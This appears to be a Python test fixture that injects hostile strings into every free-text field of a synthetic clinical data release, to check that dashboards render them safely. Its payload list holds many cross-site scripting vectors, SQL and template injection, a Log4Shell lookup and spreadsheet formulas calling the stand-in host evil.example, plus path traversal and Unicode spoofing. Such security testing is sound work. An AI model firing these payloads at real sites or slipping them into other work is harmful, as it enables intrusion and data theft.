"""Labels that try to be more than labels, and a release whose every free text is one of them."""

from collections.abc import Iterator
from itertools import cycle
from typing import Any

from schemas.tables import PUBLIC_TABLES
from tests.dashboards import made_up_release

PAYLOADS = (
    "<script>window.pwned=1</script>",
    "</script><script>window.pwned=1</script>",
    "<img src=x onerror=window.pwned=1>",
    '"><svg onload=window.pwned=1>',
    "' onmouseover='window.pwned=1",
    '" autofocus onfocus="window.pwned=1',
    "javascript:window.pwned=1",
    "<a href=javascript:window.pwned=1>click</a>",
    '<a href="javascript:window.pwned=1">click</a>',
    "<iframe srcdoc='<script>parent.pwned=1</script>'>",
    "<math><mi xlink:href='javascript:window.pwned=1'>x</mi></math>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action=https://evil.example><input name=x></form>",
    "<b>bold</b><i>it</i><sub>sub</sub><br>line",
    "%{text}%{customdata[0]}<extra></extra>",
    "$\\href{javascript:window.pwned=1}{x}$",
    "{{ 7*7 }}{% raw %}",
    "{{ config.__class__ }}",
    "${window.pwned=1}",
    "`${window.pwned=1}`",
    "*/window.pwned=1;/*",
    "\\u003cscript\\u003ewindow.pwned=1\\u003c/script\\u003e",
    "]]><script>window.pwned=1</script>",
    "<!--",
    "-->",
    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
    "&#60;script&#62;window.pwned=1",
    "=HYPERLINK(\"https://evil.example\",\"x\")",
    "=cmd|'/C calc'!A1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "a,b\"c\r\nd",
    "../../../../etc/passwd",
    "#o=x&c=y&v=1",
    "\u202etxt.exe",
    "\u2066hidden\u2069",
    "zero\u200bwidth\ufeff",
    "line\u2028separator\u2029paragraph",
    "nul\x00bell\x07escape\x1b[31m",
    "\U000e0041tag",
    "𝕳𝖔𝖘𝖙𝖎𝖑𝖊",
    "x" * 5000,
    "**bold** and ** not",
    "constructor",
    "__proto__",
    "toString",
    "<ScRiPt >window.pwned=1</sCrIpT>",
    "<script/src=https://evil.example/x.js>",
    "<scr\x00ipt>window.pwned=1</script>",
    "<svg><script>window.pwned=1</script></svg>",
    "<svg/onload=window.pwned=1//",
    "<svg><animate onbegin=window.pwned=1 attributeName=x>",
    "<svg><a xlink:href=javascript:window.pwned=1><text>x</text></a></svg>",
    "<details open ontoggle=window.pwned=1>",
    "<video><source onerror=window.pwned=1></video>",
    "<audio src=x onerror=window.pwned=1>",
    "<body onload=window.pwned=1>",
    "<input autofocus onfocus=window.pwned=1>",
    "<select onfocus=window.pwned=1 autofocus>",
    "<textarea onfocus=window.pwned=1 autofocus>",
    "<marquee onstart=window.pwned=1>",
    "<object data=javascript:window.pwned=1>",
    "<embed src=javascript:window.pwned=1>",
    "<applet code=evil>",
    "<template><script>window.pwned=1</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=window.pwned=1>'>",
    "<title></title><script>window.pwned=1</script>",
    "</title><script>window.pwned=1</script>",
    "</textarea><script>window.pwned=1</script>",
    "</style><script>window.pwned=1</script>",
    "</option></select><img src=x onerror=window.pwned=1>",
    "</table></details><h1>another heading</h1>",
    "<button formaction=javascript:window.pwned=1>x</button>",
    "<a href='data:text/html,<script>window.pwned=1</script>'>x</a>",
    "<a href=vbscript:window.pwned=1>x</a>",
    "<img src='x' style='position:fixed;inset:0' onmouseover=window.pwned=1>",
    "<div style='background:url(javascript:window.pwned=1)'>",
    "<x onclick=window.pwned=1 tabindex=0>x</x>",
    "<!--><script>window.pwned=1</script>-->",
    "<![CDATA[<script>window.pwned=1</script>]]>",
    "<?xml version='1.0'?><script>window.pwned=1</script>",
    "\uff1cscript\uff1ewindow.pwned=1\uff1c/script\uff1e",
    "%3Cscript%3Ewindow.pwned=1%3C/script%3E",
    "&amp;lt;script&amp;gt;",
    "&colon;&lpar;&Tab;javascript&colon;window.pwned=1",
    "'); DROP TABLE released_counts; --",
    "' OR '1'='1",
    "'; CREATE TEMP MACRO limit_of(x, n, side) AS 1; --",
    "{% import os %}{{ os.system('true') }}",
    "{{ ''.__class__.__mro__ }}",
    "<%= 7*7 %>",
    "#{7*7}",
    "%s%s%s%n",
    "${jndi:ldap://evil.example/x}",
    "=1+1\",\"=2+2",
    "=IMPORTXML(CONCAT(\"https://evil.example/\",A1),\"//a\")",
    "@import url(https://evil.example/x.css)",
    "\\0;url(javascript:window.pwned=1)",
    "\u2067right\u2069 to \u200fleft",
    "e\u0301" * 40,
    "\ufffe\uffff",
    "con.txt:alternate",
    "../site/index.html",
    "hasOwnProperty",
)  # fmt: skip

#: Text that means something to the pages: ids, which contracts restrict, and words from fixed lists.
KEPT = {
    "source", "cohort", "study", "arm", "result", "definition", "observed_definition", "endpoint", "population",
    "instrument", "delivery", "key", "period", "first_set", "verdict", "robust_verdict", "robust_verdict_at_5",
    "robust_verdict_at_15", "dimension", "role", "confidence", "definition_confidence", "n_confidence", "measure",
    "analysis_set", "reason_id", "check_id", "claim", "results", "contrast", "pool", "standing", "rule", "step",
}  # fmt: skip


def tables() -> dict[str, list[dict[str, Any]]]:
    """The made-up release with a payload in every free text of every row."""
    payloads = cycle(PAYLOADS)
    return {name: [_poisoned(name, row, payloads) for row in rows] for name, rows in made_up_release.tables().items()}


def many() -> dict[str, list[dict[str, Any]]]:
    """The made-up release with one more clinic and one more study for each payload, which is its name."""
    known = made_up_release.tables()
    clinics, studies = [f"clinic-{place:03}" for place in range(len(PAYLOADS))], range(len(PAYLOADS))
    for name in ("cohorts", "clinic_variation", "follow_up", "observed_rates", "released_counts", "deliveries"):
        first = [row for row in known[name] if row["source"] == "riverside" and row.get("period_kind", "all") == "all"]
        known[name] = [
            *known[name],
            *(row | {"source": each} | _cohort(row, each) for each in clinics for row in first),
        ]
    labels = dict(zip(clinics, PAYLOADS, strict=True))
    known["cohorts"] = [row | {"label": labels.get(row["source"], row["label"])} for row in known["cohorts"]]
    first_study = known["studies"][0]
    known["studies"] += [
        first_study
        | {"study": f"study-{place:03}"}
        | dict.fromkeys(("label", "citation", "doi", "note"), PAYLOADS[place])
        for place in studies
    ]
    return known


def _cohort(row: dict[str, Any], name: str) -> dict[str, Any]:
    return {"cohort": name} if "cohort" in row else {}


def _poisoned(table: str, row: dict[str, Any], payloads: Iterator[str]) -> dict[str, Any]:
    columns = PUBLIC_TABLES[table].columns()
    free = {
        name
        for name, column in columns.items()
        if column.kind == "text" and column.among is None and column.shape is None and name not in KEPT
    }
    if table == "release_notes":
        free = {"value"} if row["key"] not in {"synthetic", "margin"} else set()
    return {name: next(payloads) if name in free and value is not None else value for name, value in row.items()}
